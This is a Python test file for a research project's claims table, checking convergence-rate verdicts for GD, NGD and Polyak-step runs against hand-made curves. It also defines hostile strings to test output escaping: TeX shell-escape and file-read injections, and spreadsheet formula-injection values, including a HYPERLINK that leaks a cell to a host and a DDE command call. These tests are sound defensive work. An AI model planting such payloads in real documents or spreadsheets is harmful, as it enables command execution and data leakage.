"""The claims table's arithmetic, on hand-made aggregate tables with known answers.

Every kind of row has a negative control: a run that must fail it (GD's curves under NGD's
name, a softmax that dips, data that break Ass. 2, a gap that decays only like 1/log t
against a polynomial rate, ...). No threshold may be loose enough to pass one.
"""

from __future__ import annotations

import csv
import math
import re
import shutil
import subprocess

import numpy as np
import pandas as pd
import pytest

from attnbias.claims import global_convergence, layouts, measure, write
from attnbias.claims.statements import by_key
from attnbias.data import hypotheses, models
from attnbias.svm import max_margin
from attnbias.training.metrics import CROSSING_THRESHOLDS
from attnbias.workflow import csvcells, io, provenance

T = 10_000
ITERATIONS = np.unique(np.concatenate([[0], np.rint(np.geomspace(1, T, 80)).astype(int)]))
GOOD = hypotheses.summarize(
    [hypotheses.report(models.generate("example1", s, dict(n=8, T=4, d=100, query_signal=0.0)))
     for s in (0, 1)]
)  # fmt: skip


def _joint_report(seed: int) -> dict:
    """DM data inside Cond. 1 (iii) as Lem. 11 uses it, measured with the svm job's u_mm."""
    dataset = models.generate("dm", seed, dict(n=4, T=3, d=60))
    solutions = max_margin.solve_for_dataset(dataset, train_u=True, name=f"dm seed {seed}")
    return hypotheses.report(dataset, max_margin.to_arrays(solutions))


JOINT_GOOD = hypotheses.summarize([_joint_report(s) for s in (0, 1)])


def long_table(curves: dict) -> pd.DataFrame:
    """{(optimizer, metric): f(t, seed)} -> long-format aggregate table, two seeds. A
    metric named first_gap_W_below_* is a run summary: f(None, seed) at the last t."""
    rows = []
    for (optimizer, metric), f in curves.items():
        for seed in (0, 1):
            if metric.startswith("first_gap_W_below_"):
                value = f(None, seed)
                if value is not None:
                    rows.append(("x", optimizer, seed, T, metric, float(value)))
                continue
            for t in ITERATIONS:
                if t == 0 and metric in ("gap_W", "W_norm"):
                    continue  # as in real tables: W = 0 has no direction
                rows.append(("x", optimizer, seed, t, metric, f(float(t), seed)))
    return pd.DataFrame(
        rows, columns=["experiment", "optimizer", "seed", "iteration", "metric", "value"]
    )


def ngd_like(exponent=-2.0, lr=0.1, W_mm_norm=2.0):
    """NGD's curves: gap ~ t^exponent, ||W|| = lr t, log(1 - s) = -lr t / ||W_mm||."""
    return {
        "gap_W": lambda t, s: (1 + s) * t**exponent,
        "W_norm": lambda t, s: lr * t,
        "log1m_opt_softmax": lambda t, s: -lr * t / W_mm_norm,
        "min_opt_softmax": lambda t, s: 1 - math.exp(-lr * t / W_mm_norm),
    }


def gd_like():
    return {
        "gap_W": lambda t, s: 0.3 / math.log(max(t, 2.0)),
        "W_norm": lambda t, s: 2.0 * math.log(max(t, 1.0)) + 1,
        "log1m_opt_softmax": lambda t, s: -math.log(max(t, 1.0)),
        "min_opt_softmax": lambda t, s: 1 - 1 / (1 + t),
    }


def crossings(curves, optimizer):
    """The exact first-crossing summaries that the training loop writes, from gap_W."""
    out = {}
    for thr in CROSSING_THRESHOLDS:

        def first(_, s, thr=thr):
            below = [t for t in ITERATIONS if t > 0 and curves["gap_W"](float(t), s) < thr]
            return below[0] if below else None

        out[(optimizer, f"first_gap_W_below_{thr:g}")] = first
    return out


def fixed_table(**optimizers) -> pd.DataFrame:
    curves = {}
    for name, c in optimizers.items():
        curves.update({(name, m): f for m, f in c.items()})
        curves.update(crossings(c, name))
    return long_table(curves)


def rows_of(table, optimizers, summary=GOOD, kind="fixed_decoder", T_tokens=3, figure=None,
            **extra):  # fmt: skip
    """The measured rows of one experiment "x" (the registry's "not measured" rows left out)."""
    experiment = {"layout": kind, "optimizers": optimizers, "seeds": 2, "paper_figure": figure}
    out = layouts.claims({"x": experiment}, {"x": table}, {"x": [2.0, 2.0]}, {"x": T_tokens},
                        {"x": summary}, extra.get("u_margins"))  # fmt: skip
    return [r for r in out.itertuples() if r.kind != "not measured"]


def row(rows, key):
    (match,) = [r for r in rows if r.key == f"x {key}"]
    return match


def test_first_passage_and_fit():
    values = pd.DataFrame({0: [1.0, 0.5, 0.05, 0.001], 1: [1.0, 1.0, 1.0, 1.0]}, index=[1, 2, 3, 4])
    np.testing.assert_array_equal(measure.first_passage(values, 0.1), [3, math.inf])
    slope, r2 = measure.fit(np.arange(5.0), 3 * np.arange(5.0) + 1)
    assert slope == pytest.approx(3) and r2 == pytest.approx(1)


OPTS = {"gd": {"rule": "gd"}, "ngd": {"rule": "ngd", "lr": 0.1}}


def test_fixed_decoder_rows_hold_where_they_should():
    rows = rows_of(fixed_table(gd=gd_like(), ngd=ngd_like(-0.9)), OPTS, figure="Fig. 2")
    assert all(r.holds and r.in_hypotheses for r in rows), [r.key for r in rows if not r.holds]
    categories = {r.key.split(" ", 1)[1]: r.category for r in rows}
    # GD's log norm and the races against GD are proved on the two-token example only;
    # Fig. 2's remarks are about its capped NGD; NGD's norm and Lem. 1's exponent are
    # near-tautologies
    assert categories.pop("gd norm log growth") == "comparison"
    for key in ("faster than gd ngd 0.01", "ngd rate closeness", "ahead of gd ngd"):
        assert categories.pop(key) == "comparison", key
    assert categories.pop("ngd norm slope") == categories.pop("ngd softmax rate") == "consistency"
    assert {k for k, c in categories.items() if c != "covered"} <= {
        f"faster than gd ngd {t:g}" for t in CROSSING_THRESHOLDS
    }
    assert row(rows, "gd softmax monotone").category == "covered"  # Lem. 3's GD row (Thm. 6)
    assert row(rows, "ngd rate bound").verdict.startswith("consistent with the bound: ")
    assert row(rows, "ngd norm slope").verdict == "consistency check: consistent"
    passage = row(rows, "faster than gd ngd 0.01")
    # exact crossings: seed 0 t^-0.9 < 1e-2 from t > 10^(2/0.9)
    assert passage.low == ITERATIONS[ITERATIONS > 10 ** (2 / 0.9)][0]
    rate = row(rows, "ngd rate bound")
    assert rate.mean == pytest.approx(-0.9) and rate.r2 == pytest.approx(1.0)
    close = row(rows, "ngd rate closeness")
    assert close.mean == pytest.approx(0.9 / 0.75) and "tolerance 1 +- 0.25" in close.value_text
    softmax = row(rows, "ngd softmax rate")
    assert softmax.mean == pytest.approx(-0.05) and softmax.ratio == pytest.approx(1.0)


def test_gd_curves_under_ngd_name_fail_every_ngd_row():
    rows = rows_of(fixed_table(gd=gd_like(), ngd=gd_like()), OPTS, figure="Fig. 2")
    for key in ("ngd rate bound", "ngd rate closeness", "ngd norm slope", "ngd softmax rate",
                "faster than gd ngd 0.01", "faster than gd ngd 0.001",
                "ahead of gd ngd"):  # fmt: skip
        assert not row(rows, key).holds, key
    # the same curves: neither crosses 1e-2 (undecided), and NGD is never below GD
    assert row(rows, "faster than gd ngd 0.01").outcome == "undecided"
    assert row(rows, "ahead of gd ngd").outcome == "does not hold"
    assert row(rows, "ngd rate bound").verdict.startswith("undecided: slower than the bound")
    table = layouts.claims(
        {"x": {"layout": "two_token", "optimizers": OPTS, "seeds": 2}},
        {"x": fixed_table(gd=gd_like(), ngd=gd_like())},
        {"x": [2.0, 2.0]},
        {"x": 3},
        {"x": GOOD},
    )
    md = write.to_markdown(table)
    assert "**does not hold" in md  # covered failures are bold, and only they
    assert md.count("**") == 2 * (1 + sum(
        (table["category"] == "covered") & (table["outcome"] == "does not hold")
    ))  # fmt: skip


def test_a_rate_much_faster_than_thm1_holds_the_bound_but_is_not_close():
    rows = rows_of(fixed_table(gd=gd_like(), ngd=ngd_like(-2.0)), OPTS, figure="Fig. 2")
    assert row(rows, "ngd rate bound").holds
    assert not row(rows, "ngd rate closeness").holds
    assert row(rows, "ngd rate closeness").mean == pytest.approx(2.0 / 0.75)


def test_a_softmax_that_dips_fails_lemma_3():
    dipping = ngd_like(-0.9) | {"min_opt_softmax": lambda t, s: 0.9 - 0.1 * (t > 100) + 1e-5 * t}
    rows = rows_of(fixed_table(gd=gd_like(), ngd=dipping), OPTS)
    assert not row(rows, "ngd softmax monotone").holds
    assert row(rows, "ngd softmax monotone").high == pytest.approx(0.1 / 0.901, rel=1e-2)


def test_softmax_rate_off_by_half_fails_lemma_1():
    rows = rows_of(fixed_table(gd=gd_like(), ngd=ngd_like(-0.9, W_mm_norm=3.0)), OPTS)
    assert row(rows, "ngd softmax rate").ratio == pytest.approx(2 / 3)
    assert not row(rows, "ngd softmax rate").holds


def test_linear_gd_norm_fails_the_log_growth_row():
    linear_gd = gd_like() | {"W_norm": lambda t, s: 0.1 * t}
    assert not row(rows_of(fixed_table(gd=linear_gd, ngd=ngd_like(-0.9)), OPTS),
                   "gd norm log growth").holds  # fmt: skip


@pytest.mark.parametrize("power", [0.3, 0.15])
def test_log_norm_row_prefers_log_growth_to_a_power_law_and_its_control(power):
    """Exact a + b ln t holds (even where its log-log slope is above 0.3); a power law t^k
    with a small k is the negative control."""
    two_token = {"gd": {"rule": "gd"}}
    log_growth = long_table({("gd", "W_norm"): lambda t, s: 0.5 + 3 * math.log(max(t, 1.0)),
                             ("gd", "gap_W"): lambda t, s: 1 / math.log(t + 2) ** 2})  # fmt: skip
    r = row(rows_of(log_growth, two_token, kind="two_token"), "gd norm log growth")
    assert r.holds and r.category == "covered" and r.low > 0
    power_law = long_table({("gd", "W_norm"): lambda t, s: 2 * max(t, 1.0) ** power,
                            ("gd", "gap_W"): lambda t, s: 1 / math.log(t + 2) ** 2})  # fmt: skip
    r = row(rows_of(power_law, two_token, kind="two_token"), "gd norm log growth")
    assert r.verdict == "does not hold" and r.high < 0


def test_comparison_rows_are_never_counted_as_failures():
    """Capped NGD is not Thm. 1's algorithm: its rows are comparisons, even where they fail."""
    capped = {"gd": {"rule": "gd"}, "ngd": {"rule": "ngd", "lr": 0.1, "max_step": 1e3}}
    fast_gd = gd_like() | {"gap_W": lambda t, s: 1e-4}  # crosses every threshold first
    rows = rows_of(fixed_table(gd=fast_gd, ngd=gd_like()), capped, figure="Fig. 9")
    failing = [r for r in rows if not r.holds and not r.undecided]
    assert failing and all(r.category == "comparison" for r in failing)
    assert all(r.verdict.startswith("comparison: ") for r in failing)
    assert "NGD with a step cap against GD off Sec. 3.3's two-token example" in failing[0].verdict
    line = write.summary_line(pd.DataFrame([r._asdict() for r in rows]))
    assert " 0 do not hold, " in line, line


def test_a_threshold_neither_method_reaches_is_undecided():
    slow = ngd_like(-0.9) | {"gap_W": lambda t, s: 0.02 + t**-0.9}  # ahead of GD, above 1e-2
    rows = rows_of(fixed_table(gd=gd_like(), ngd=slow), OPTS, kind="two_token", figure="Fig. 2")
    for threshold in ("0.01", "0.001"):
        r = row(rows, f"faster than gd ngd {threshold}")
        assert r.undecided and r.verdict == "undecided" and r.category == "covered"
    # GD crossing first on one seed decides it
    fast_gd = gd_like() | {"gap_W": lambda t, s: 1e-4 if s == 0 else 0.3 / math.log(max(t, 2.0))}
    r = row(rows_of(fixed_table(gd=fast_gd, ngd=slow), OPTS, kind="two_token"),
            "faster than gd ngd 0.01")  # fmt: skip
    assert r.verdict == "does not hold"


def test_ahead_row_reads_the_whole_run():
    """Behind at the end: does not hold; ahead at the end, behind on the way: undecided."""
    crossing = ngd_like(-0.9) | {"gap_W": lambda t, s: 0.5 if t < 1000 else 1e-4}
    r = row(rows_of(fixed_table(gd=gd_like(), ngd=crossing), OPTS, figure="Fig. 2"),
            "ahead of gd ngd")  # fmt: skip
    assert r.outcome == "undecided" and "not ahead at" in r.verdict
    assert "NGD" not in r.value_text and "ngd 0.0001, gd " in r.value_text  # both numbers
    late = ngd_like(-0.9) | {"gap_W": lambda t, s: 1e-4 if t < 1000 else 0.5}
    r = row(rows_of(fixed_table(gd=gd_like(), ngd=late), OPTS, figure="Fig. 2"), "ahead of gd ngd")
    assert r.outcome == "does not hold" and "gd ahead at t = 10000 on 2 of 2 seeds" in r.verdict
    assert r.low == pytest.approx(0.5 * math.log(T) / 0.3)  # the margin: ngd / gd at the end


def test_a_bound_read_through_a_poor_fit_is_undecided():
    rng = np.random.default_rng(0)
    noise = {t: float(np.exp(rng.normal(0, 2))) for t in ITERATIONS}
    noisy = ngd_like(-0.9) | {"gap_W": lambda t, s: noise[int(t)] * t**-0.9}
    r = row(rows_of(fixed_table(gd=gd_like(), ngd=noisy), OPTS), "ngd rate bound")
    assert r.r2 < measure.R2_MIN and r.verdict.startswith("undecided: poor fit")


def test_a_bound_with_a_lost_constant_is_consistent_or_undecided_never_failed():
    """A decay at least as fast as the bound's rate is consistent; a slower one (the
    negative control) is undecided with its slope, the window's span and where the trend
    would cross a line of the bound's rate, never "does not hold"."""
    r = row(rows_of(fixed_table(gd=gd_like(), ngd=ngd_like(-2.0)), OPTS), "ngd rate bound")
    assert r.holds and r.verdict.startswith("consistent with the bound")
    slow = row(rows_of(fixed_table(gd=gd_like(), ngd=ngd_like(-0.5)), OPTS), "ngd rate bound")
    assert slow.outcome == "undecided" and not slow.holds
    assert "slower than the bound's rate: slopes -0.5 against -0.75" in slow.verdict
    # the figures draw the bound's line from the curve at t = 0.003 T: a curve of one
    # slower slope throughout has been above that line since there
    anchor = ITERATIONS[np.argmin(np.abs(ITERATIONS - 0.003 * T))]
    t0 = ITERATIONS[ITERATIONS >= T / 10][0]
    span = math.log(T / t0)
    assert f"drawn from its curve at t = {anchor:g}, as in the figures" in slow.verdict
    assert f"has been above it since t = 10^{math.log10(anchor):.3g}" in slow.verdict
    # one that falls as t^-2 until T/10 and slower after crosses it later: where
    # -2 ln t_a - 0.75 (ln t - ln t_a) = -2 ln t0 - 0.5 (ln t - ln t0)
    late = {**ngd_like(), "gap_W": lambda t, s: (1 + s) * (t**-2 if t < t0 else t0**-1.5 * t**-0.5)}
    later = row(rows_of(fixed_table(gd=gd_like(), ngd=late), OPTS), "ngd rate bound")
    a, b = math.log(anchor), math.log(t0)
    crossing = (1.5 * b - 1.25 * a) / 0.25 / math.log(10)
    assert f"would cross it near t = 10^{crossing:.3g}" in later.verdict
    assert f"span of only {span:.2g} in ln t" in slow.verdict


def test_ps_slower_than_ngd_fails_ps_fastest():
    opts = {"gd": {"rule": "gd"}, "ngd": {"rule": "ngd", "lr": 0.1}, "ps": {"rule": "polyak"}}
    fast_ps = fixed_table(gd=gd_like(), ngd=ngd_like(-0.9), ps=ngd_like(-2.0))
    slow_ps = fixed_table(gd=gd_like(), ngd=ngd_like(-2.0), ps=ngd_like(-0.9))
    assert row(rows_of(fast_ps, opts, figure="Fig. 2"), "ps fastest").holds
    assert not row(rows_of(slow_ps, opts, figure="Fig. 2"), "ps fastest").holds
    assert row(rows_of(fast_ps, opts), "ps rate bound").result == "Thm. 7"
    # Fig. 2's remark is about its capped PS: on uncapped PS a comparison
    assert row(rows_of(fast_ps, opts, figure="Fig. 2"), "ps fastest").category == "comparison"
    capped = opts | {"ps": {"rule": "polyak", "eta_max": 1e10}}
    assert row(rows_of(fast_ps, capped, figure="Fig. 2"), "ps fastest").category == "covered"


def test_capped_optimizers_get_no_rate_rows():
    rows = rows_of(
        fixed_table(gd=gd_like(), ngd=ngd_like(-0.9)),
        {"gd": {"rule": "gd"}, "ngd": {"rule": "ngd", "max_step": 1e3}},
    )
    keys = {r.key for r in rows}
    assert "x ngd rate bound" not in keys and "x ngd softmax rate" not in keys
    assert "x faster than gd ngd 0.01" in keys


def test_data_outside_the_hypotheses_never_read_plain_holds():
    broken = hypotheses.summarize(
        [hypotheses.report(models.generate("example1", 0, dict(n=8, T=4, d=100, query_signal=0.5)))]
    )
    assert not broken["ass2_holds"]
    rows = rows_of(fixed_table(gd=gd_like(), ngd=ngd_like(-0.9)), OPTS, summary=broken,
                   kind="two_token")  # fmt: skip
    assert not any(r.in_hypotheses for r in rows)
    for r in rows:
        if r.kind == "consistency":
            continue  # outside the count
        assert "(outside hypotheses: " in r.verdict, r.verdict
        assert "Ass. 2 broken" in r.verdict
    table = pd.DataFrame([r._asdict() for r in rows])
    line = write.summary_line(table)
    assert ": 0 hold, 0 do not hold, 0 undecided; 0 comparisons" in line, line
    assert f"; {len([r for r in rows if r.kind != 'consistency'])} on data outside" in line


def test_two_token_rates_and_a_1_over_log_t_control():
    table = long_table(
        {
            ("gd", "gap_W"): lambda t, s: 0.3 / math.log(max(t, 2.0)) ** 2,
            ("ngd", "gap_W"): lambda t, s: 5.0 / t**2,
        }
    )
    rows = rows_of(table, OPTS, kind="two_token")
    assert row(rows, "two token gd rate").holds and row(rows, "two token ngd rate").holds
    assert row(rows, "two token ngd rate").mean == pytest.approx(-2.0)
    slow = long_table(
        {
            ("gd", "gap_W"): lambda t, s: 0.3 / math.log(max(t, 2.0)),
            ("ngd", "gap_W"): lambda t, s: 0.3 / math.log(max(t, 2.0)),
        }
    )
    rows = rows_of(slow, OPTS, kind="two_token")
    assert not row(rows, "two token gd rate").holds  # 1/log t is not 1/log^2 t
    assert not row(rows, "two token ngd rate").holds  # and far from t^-2


def joint_curves(good=True):
    """NGD-like joint curves; good=False breaks each Lem. 11 / Thm. 2-4 property."""
    if good:
        return {
            "gap_u": lambda t, s: 1e-5,
            "gap_W": lambda t, s: 1.0 / t,
            "log_loss": lambda t, s: -0.1 * t - 0.01,
            "log_loss_ratio": lambda t, s: 0.5 - 0.1 / (1 + t),
            "min_score_gap": lambda t, s: 1.0 - 1.0 / (1 + t),
            "min_opt_softmax": lambda t, s: 1 - 0.5 / (1 + t),
        }
    return {
        "gap_u": lambda t, s: 1e-2,
        "gap_W": lambda t, s: 0.05,  # stalls
        "log_loss": lambda t, s: -1 - 1e-6 * t,  # barely moves
        "log_loss_ratio": lambda t, s: 1e-3 * t,  # grows without bound
        "min_score_gap": lambda t, s: 1.0 - 0.5 * (t > 100),  # dips
        "min_opt_softmax": lambda t, s: 0.9 - 0.1 * (t > 100),  # dips
    }


EQ10 = {"rule": "ngd", "lr": 1.0, "normalize": "per_block", "decay_W": 1.0, "decay_u": 0.5}
JOINT_KEYS = ("u direction", "u margin", "loss rate", "W rate bound", "loss ratio", "score gap",
              "softmax monotone")  # fmt: skip


@pytest.mark.parametrize("good", [True, False])
def test_joint_rows_and_their_controls(good):
    table = long_table({("eq10", m): f for m, f in joint_curves(good).items()})
    margins = {"eq10": [1.0, 0.995] if good else [0.1, 0.2]}
    rows = rows_of(table, {"eq10": EQ10}, summary=JOINT_GOOD, kind="joint",
                   u_margins={"x": margins})  # fmt: skip
    for key in JOINT_KEYS:
        r = row(rows, f"eq10 {key}")
        assert r.holds == good, (key, r.mean, r.reference)
        assert r.in_hypotheses and r.category == "covered"
        assert "Cond. 1 holds" in r.hypotheses


def test_joint_rows_on_other_algorithms_are_comparisons_and_gd_fails_the_margin():
    """Thms. 2-4 and Lem. 11 are proved for Eq. 10 with its step factors only; GD's u at
    10^4 on fig3 has 0.92 of u_mm's margin (measured), which the margin row must fail."""
    curves = {(o, m): f for o in ("gd", "ngd", "eq10") for m, f in joint_curves().items()}
    optimizers = {"gd": {"rule": "gd"}, "ngd": {"rule": "ngd", "normalize": "per_block"},
                  "eq10": EQ10}  # fmt: skip
    margins = {"gd": [0.92, 0.92], "ngd": [1.0, 1.0], "eq10": [1.0, 1.0]}
    rows = rows_of(long_table(curves), optimizers, summary=JOINT_GOOD, kind="joint",
                   u_margins={"x": margins})  # fmt: skip
    assert all(r.category == "covered" for r in rows if r.key.startswith("x eq10"))
    others = [r for r in rows if r.key.startswith(("x gd", "x ngd")) and "ahead" not in r.key]
    assert others and all(r.category == "comparison" for r in others)
    gd = row(rows, "gd u margin")
    assert not gd.holds and gd.verdict.startswith("comparison: does not hold")


def test_thm2_rate_fails_a_gd_like_loss():
    """-ln L growing like ln t (GD) is not a power law of t: the Thm. 2 row fails it."""
    gd_loss = joint_curves() | {"log_loss": lambda t, s: -math.log(t + 2.0)}
    rows = rows_of(long_table({("eq10", m): f for m, f in gd_loss.items()}), {"eq10": EQ10},
                   summary=JOINT_GOOD, kind="joint")  # fmt: skip
    assert row(rows, "eq10 loss rate").outcome == "does not hold"
    assert "our threshold 0.4; it flips if moved by a factor" in row(rows, "eq10 loss rate").verdict
    sqrt_loss = joint_curves() | {"log_loss": lambda t, s: -0.5 * math.sqrt(t + 1.0)}
    rows = rows_of(long_table({("eq10", m): f for m, f in sqrt_loss.items()}), {"eq10": EQ10},
                   summary=JOINT_GOOD, kind="joint")  # fmt: skip
    assert row(rows, "eq10 loss rate").mean == pytest.approx(0.5, abs=0.01)
    assert row(rows, "eq10 loss rate").holds


def test_results_proved_together_share_one_hypotheses_verdict_per_run():
    """Thm. 2 to 4 and Lem. 11 rest on one proof: on data where Lem. 11's support-vector
    condition fails, every Sec. 4 row is outside (not only Lem. 11 (iii)); on data where it
    holds (the control), every one is inside. Fig. 3's remarks are about its run: no proof's
    hypotheses apply to them."""
    curves = {(o, m): f for o in ("gd", "eq10") for m, f in joint_curves().items()}
    optimizers = {"gd": {"rule": "gd"}, "eq10": EQ10}
    few = dict(JOINT_GOOD, cond1_sv_fraction=0.6, cond1_sv_holds=False, cond1_u_margin_max=1.3)
    for summary, inside in ((few, False), (JOINT_GOOD, True)):
        margins = {"eq10": [1.0, 1.0], "gd": [0.9, 0.9]}
        rows = rows_of(long_table(curves), optimizers, summary=summary, kind="joint",
                       figure="Fig. 3", u_margins={"x": margins})  # fmt: skip
        sec4 = [r for r in rows if by_key(r.statement).section == "Sec. 4"]
        assert len({r.statement for r in sec4}) >= 7
        assert {r.in_hypotheses for r in sec4} == {inside}
        assert len({r.hypotheses for r in sec4}) == 1
        remarks = [r for r in rows if r.statement.startswith("fig3-")]
        assert remarks and all(r.in_hypotheses and not r.hypotheses for r in remarks)
    assert "60% of samples" in row(rows_of(long_table(curves), optimizers, summary=few,
                                           kind="joint"), "eq10 loss ratio").hypotheses  # fmt: skip


def test_hypotheses_and_labels_are_shown_safely():
    broken = dict(GOOD, ass1_rho=6.0, ass1_holds=False)
    rows = layouts.claims(
        {"x": {"layout": "fixed_decoder", "optimizers": OPTS, "seeds": 2,
               "labels": {"gd": "GD <b>|x|", "ngd": "NGD"}}},
        {"x": fixed_table(gd=gd_like(), ngd=ngd_like(-0.9))},
        {"x": [2.0, 2.0]}, {"x": 3}, {"x": broken},
    )  # fmt: skip
    measured = rows[rows["kind"] != "not measured"]
    assert all("rho 6 > 0.5" in h for h in measured["hypotheses"])
    trained = provenance.trained_on({"backends": ["c"], "devices": ["cpu"]})
    md = write.to_markdown(rows, trained)
    # the tag escaped (no HTML starts in it), the rest as it reads
    assert "<b>" not in md.replace("\\<b>", "") and "GD \\<b>\\|x\\|" in md
    assert "The runs trained on the compiled C kernel (cpu)." in md
    assert md.count("|---|---|---|---|") == md.count("## ")  # the compact four columns


def test_joint_rows_on_fixed_decoder_data_are_outside_condition_1():
    table = long_table({("ngd", m): f for m, f in joint_curves().items()})
    rows = rows_of(table, {"ngd": {"rule": "ngd"}}, summary=GOOD, kind="joint")
    assert all(not r.in_hypotheses for r in rows)
    assert all("Cond. 1 broken" in r.verdict for r in rows)


def test_bad_init_row_and_control():
    good = long_table(
        {
            ("gd", "opt_softmax"): lambda t, s: 0.2 + 0.8 * (1 - 1 / (1 + t)),
            ("gd", "gap_W"): lambda t, s: 1.0 / (1 + t),
        }
    )
    assert row(rows_of(good, {"gd": {"rule": "gd"}}, kind="bad_init"), "gd global").holds
    starts_high = long_table(
        {
            ("gd", "opt_softmax"): lambda t, s: 0.5 + 0.5 * (1 - 1 / (1 + t)),
            ("gd", "gap_W"): lambda t, s: 1.0 / (1 + t),
        }
    )
    assert not row(rows_of(starts_high, {"gd": {"rule": "gd"}}, kind="bad_init"), "gd global").holds


def test_markdown_groups_by_result_and_latex_macros_are_unique():
    table = layouts.claims(
        {"x": {"layout": "fixed_decoder", "optimizers": OPTS, "seeds": 2}},
        {"x": fixed_table(gd=gd_like(), ngd=ngd_like(-0.9))},
        {"x": [2.0, 2.0]},
        {"x": 3},
        {"x": GOOD},
    )
    md = write.to_markdown(table)
    headings = re.findall(r"^## (.*)$", md, re.M)
    assert len(headings) == len(set(headings)) and {"Thm. 1", "Lem. 3"} <= set(headings)
    assert write.summary_line(table) in md
    html = write.to_html(table)
    assert "not reached by t = 10000" in html  # GD never crosses 1e-2 here
    assert write.summary_line(table) in html
    # the two registries (the paper's, beyond it) are Markdown only
    assert html.count("<table>") == md.count("## ") - 2
    tex = write.to_latex(table)
    names = re.findall(r"\\newcommand\{\\([^}]*)\}", tex)
    measured = table[table["kind"] != "not measured"]
    assert len(names) == len(set(names)) >= 4 * len(measured) + len(table) - len(measured)
    assert all(re.fullmatch(r"claim[A-Za-z]+", n) for n in names)
    mean = table.loc[table["key"] == "x ngd rate bound", "mean"].item()
    assert f"\\newcommand{{\\claimXNgdRateBoundMean}}{{{mean:.4g}}}" in tex


# config text as a TeX file and a spreadsheet would misread it
HOSTILE_TEX = (
    "NGD}\\immediate\\write18{touch x}\\input{/etc/hostname}\\newcommand{\\zz}{",
    "PS 100% #1 & co",
    "$x^2$ ~ a_b \\ {{}} \\relax",
)
HOSTILE_CSV = ('=HYPERLINK("http://host/?"&A1)', "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3")


def hostile_table(labels) -> pd.DataFrame:
    """The claims rows of a run whose optimizers' labels (in the claim's words) are
    `labels`, under an experiment name that is TeX too (in the keys: the macros' names)."""
    experiment = {"layout": "fixed_decoder", "optimizers": OPTS, "seeds": 2,
                  "labels": dict(zip(OPTS, labels, strict=True))}  # fmt: skip
    name = "x}\\input{y"
    return layouts.claims({name: experiment}, {name: fixed_table(gd=gd_like(), ngd=ngd_like(-0.9))},
                         {name: [2.0, 2.0]}, {name: 3}, {name: GOOD})  # fmt: skip


def tex_group(tex: str, start: int) -> tuple[str, int]:
    """The text of the brace group that opens at tex[start], and the index after it: braces
    counted, an escaped character (backslash and one more) skipped."""
    assert tex[start] == "{", tex[start:]
    depth, i = 0, start
    while True:
        if tex[i] == "\\":
            i += 2
            continue
        depth += {"{": 1, "}": -1}.get(tex[i], 0)
        i += 1
        if depth == 0:
            return tex[start + 1 : i - 1], i


def tex_macros(tex: str) -> dict[str, str]:
    """{name: body} of every \\newcommand{\\name}{body} of `tex`; nothing else may be there
    but the comment line at the top (a body that ended early would leave text outside)."""
    macros, i = {}, tex.index("\n") + 1
    while i < len(tex):
        assert tex.startswith("\\newcommand", i), tex[i : i + 80]
        name, i = tex_group(tex, i + len("\\newcommand"))
        body, i = tex_group(tex, i)
        assert tex[i] == "\n"
        macros[name.removeprefix("\\")] = body
        i += 1
    return macros


TEX_ESCAPES = {r"\textbackslash{}": "\\", r"\textasciitilde{}": "~", r"\^{}": "^",
               **{f"\\{c}": c for c in "{}$&#_%"}}  # fmt: skip


def test_claims_tex_carries_config_text_as_text(tmp_path):
    table = hostile_table(HOSTILE_TEX[:2])
    table["verdict"] = [HOSTILE_TEX[i % 3] + " " + v for i, v in enumerate(table["verdict"])]
    tex = write.to_latex(table)
    macros = tex_macros(tex)
    assert all(re.fullmatch(r"claim[A-Za-z]+", n) for n in macros)
    escaped = "|".join(re.escape(e) for e in TEX_ESCAPES)
    for name, body in macros.items():
        # no special character left once its escapes are taken out; the text read back
        plain = re.sub(escaped, "", body)
        assert not set(plain) & set("\\{}$&#^_%~"), (name, body)
        if name.endswith("Verdict"):
            text = re.sub(escaped, lambda m: TEX_ESCAPES[m[0]], body)
            assert text in set(table["verdict"]), (name, text)
        else:
            assert re.fullmatch(r"-?[0-9.e+-]+|not reached", body), (name, body)
    assert len([n for n in macros if n.endswith("Verdict")]) == len(table)
    engine = next(filter(None, map(shutil.which, ("pdflatex", "lualatex", "xelatex"))), None)
    if engine is None:
        pytest.skip("no TeX engine installed (pdflatex, lualatex, xelatex): macros checked as text")
    io.save_text(tmp_path / "claims.tex", tex)
    verdicts = " ".join(f"\\{n}" for n in macros if n.endswith("Verdict"))
    (tmp_path / "doc.tex").write_text(
        f"\\documentclass{{article}}\\begin{{document}}\\input{{claims.tex}}{verdicts}"
        "\\end{document}\n"
    )
    result = subprocess.run(
        [engine, "-no-shell-escape", "-interaction=nonstopmode", "-halt-on-error", "doc.tex"],
        cwd=tmp_path, capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert result.returncode == 0, result.stdout[-3000:]
    assert not (tmp_path / "x").exists()


def test_claims_csv_cells_are_never_formulas(tmp_path):
    table = hostile_table(HOSTILE_CSV[:2])
    table["verdict"] = [HOSTILE_CSV[i % 4] for i in range(len(table))]
    table.loc[0, "reference"] = "-lr/||W_mm|| = -0.03 (mean over seeds)"  # as the build has it
    table.loc[1, "reference"] = "'=1+1"  # a quote that starts a text: kept on the way back
    path = tmp_path / "claims.csv"
    io.save_csv(path, write.to_csv(table))
    with path.open(newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    # what a spreadsheet reads as a formula starts no cell but a number's
    formulas = [c for c in cells if c.startswith(csvcells.FORMULA_START)]
    assert formulas and all(float(c) < 0 for c in formulas)
    assert {f"'{h}" for h in HOSTILE_CSV} <= set(cells)
    assert "'-lr/||W_mm|| = -0.03 (mean over seeds)" in cells
    # numbers stay numbers; text reads back as it was
    back = pd.read_csv(path, float_precision="round_trip")
    for column in ("mean", "low", "high", "ratio", "r2"):
        assert back[column].dtype == float
        np.testing.assert_array_equal(back[column], table[column].astype(float))
    assert (back["mean"] < 0).any()
    back = csvcells.read(path, keep_default_na=False)
    for column in ("verdict", "reference", "claim", "value_text", "key"):
        assert back[column].tolist() == table[column].tolist(), column
    assert csvcells.cell(-0.5) == -0.5 and csvcells.cell("-0.5") == "'-0.5"


def bad_init_2d(sample_1) -> pd.DataFrame:
    """Two samples: sample 1 starts disfavoured (below 1/T = 1/2), sample 2 favoured."""
    curves = {}
    for opt in ("gd", "ngd"):
        curves[(opt, "opt_softmax_0")] = lambda t, s: sample_1(t)
        curves[(opt, "opt_softmax_1")] = lambda t, s: 1 - 0.4 / (t + 1)
        curves[(opt, "gap_W")] = lambda t, s: 1 / t
        curves[(opt, "loss")] = lambda t, s: 0.68 + 1 / (t + 1)
    return long_table(curves)


def test_bad_init_2d_claims_see_the_dip_and_the_convergence():
